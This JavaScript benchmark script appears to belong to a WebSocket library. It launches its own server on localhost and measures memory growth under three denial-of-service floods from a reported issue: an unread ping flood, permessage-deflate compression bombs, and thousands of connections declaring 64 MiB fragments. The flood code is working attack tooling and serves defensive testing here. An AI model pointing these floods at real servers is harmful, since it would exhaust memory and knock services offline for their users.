// What the floods of issue 11 cost a socketeer server, measured from outside:
// the server runs in a child process (default options, perMessageDeflate on),
// one attacker connection (or many, for `fragments`) runs here, and the
// server's memory is sampled every 200 ms. Prints the peak growth over the
// idle baseline and whether/when the server cut the attacker.
//
//   npm run build && node bench/attacks.mjs ping        [seconds=10]
//   npm run build && node bench/attacks.mjs compressed  [seconds=10]
//   npm run build && node bench/attacks.mjs fragments   [connections=2000]
//
// ping:       never reads, sends pings as fast as TCP allows (issue: 3.2 GB in 18 s)
// compressed: sends 16 KB messages that inflate to 16 MiB each (issue: 2 GB in 4 s)
// fragments:  each connection sends a header declaring a 64 MiB fragment and 1 byte
import { fork } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import * as net from 'node:net';
import * as zlib from 'node:zlib';

const MiB = 1024 * 1024;

if (process.argv[2] === '--server') {
  const { WebSocketServer } = await import('../dist/src/index.js');
  const server = new WebSocketServer({
    port: 0,
    host: '127.0.0.1',
    perMessageDeflate: true,
    maxConnectionsPerIp: 0,
  });
  await server.listening();
  let messages = 0;
  server.on('connection', (ws) => ws.on('message', () => messages++));
  const report = () => {
    const u = process.memoryUsage();
    process.send({ rss: u.rss, arrayBuffers: u.arrayBuffers, heapUsed: u.heapUsed, messages });
  };
  global.gc?.();
  setInterval(report, 200).unref();
  process.on('message', report);
  process.send({ port: server.address().port });
} else {
  await attack(process.argv[2] ?? 'ping', Number(process.argv[3] ?? 0));
}

function frame(opcode, payload, { fin = true, rsv1 = false, length = payload.length } = {}) {
  const head = [(fin ? 0x80 : 0) | (rsv1 ? 0x40 : 0) | opcode];
  if (length < 126) head.push(0x80 | length);
  else if (length < 65536) head.push(0x80 | 126, length >> 8, length & 0xff);
  else {
    head.push(0x80 | 127, 0, 0, 0, 0);
    head.push((length >>> 24) & 0xff, (length >>> 16) & 0xff, (length >>> 8) & 0xff, length & 0xff);
  }
  const key = randomBytes(4);
  const masked = Buffer.from(payload);
  for (let i = 0; i < masked.length; i++) masked[i] ^= key[i & 3];
  return Buffer.concat([Buffer.from(head), key, masked]);
}

async function connect(port, extensions = '') {
  const socket = net.connect(port, '127.0.0.1');
  socket.on('error', () => {});
  await once(socket, 'connect');
  socket.write(
    'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n${extensions}\r\n`,
  );
  const [head] = await once(socket, 'data');
  if (!head.toString('latin1').startsWith('HTTP/1.1 101')) throw new Error(`handshake: ${head}`);
  return socket;
}

async function attack(kind, amount) {
  const child = fork(new URL(import.meta.url).pathname, ['--server'], { execArgv: ['--expose-gc'] });
  const [{ port }] = await once(child, 'message');
  const [base] = await once(child, 'message');
  let peak = base;
  let last = base;
  child.on('message', (s) => {
    last = s;
    if (s.rss > peak.rss) peak = s;
  });
  const started = Date.now();
  let cutAt;
  let leaving = false; // closes after this are ours
  const seconds = amount || 10;

  if (kind === 'ping' || kind === 'compressed') {
    const socket = await connect(
      port,
      kind === 'compressed' ? 'Sec-WebSocket-Extensions: permessage-deflate\r\n' : '',
    );
    socket.on('close', () => {
      if (!leaving) cutAt ??= Date.now();
    });
    if (kind === 'ping')
      socket.pause(); // never read
    else socket.resume();
    const unit =
      kind === 'ping'
        ? Buffer.concat(Array.from({ length: 512 }, () => frame(0x9, Buffer.from('flood'))))
        : (() => {
            const deflated = zlib.deflateRawSync(Buffer.alloc(16 * MiB), {
              level: 9,
              finishFlush: zlib.constants.Z_SYNC_FLUSH,
            });
            return frame(0x2, deflated.subarray(0, deflated.length - 4), { rsv1: true });
          })();
    const until = Date.now() + seconds * 1000;
    while (Date.now() < until && !socket.destroyed) {
      if (!socket.write(unit)) {
        await new Promise((resolve) => {
          const timer = setTimeout(done, 500);
          function done() {
            clearTimeout(timer);
            socket.off('drain', done);
            socket.off('close', done);
            resolve();
          }
          socket.once('drain', done);
          socket.once('close', done);
        });
      }
    }
    leaving = true;
    socket.destroy();
  } else if (kind === 'fragments') {
    const count = amount || 2000;
    const sockets = [];
    for (let i = 0; i < count; i++) {
      const socket = await connect(port);
      socket.on('close', () => {
        if (!leaving) cutAt ??= Date.now();
      });
      // A non-final binary fragment declaring the whole 64 MiB limit, then one byte of it.
      const header = frame(0x2, Buffer.alloc(1), { fin: false, length: 64 * MiB });
      socket.write(header.subarray(0, header.length));
      sockets.push(socket);
    }
    await new Promise((r) => setTimeout(r, 1000));
    leaving = true;
    for (const s of sockets) s.destroy();
  } else {
    throw new Error(`unknown attack ${kind}: ping, compressed or fragments`);
  }
  await new Promise((r) => setTimeout(r, 400));
  const end = last;
  const mb = (n) => `${(n / MiB).toFixed(1)} MB`;
  console.log(
    `${kind}: peak RSS growth ${mb(peak.rss - base.rss)} (arrayBuffers ${mb(peak.arrayBuffers - base.arrayBuffers)}), ` +
      `${cutAt ? `cut after ${((cutAt - started) / 1000).toFixed(1)} s` : 'not cut'}, ` +
      `messages delivered ${end.messages}, over ${((Date.now() - started) / 1000).toFixed(1)} s`,
  );
  child.kill();
}
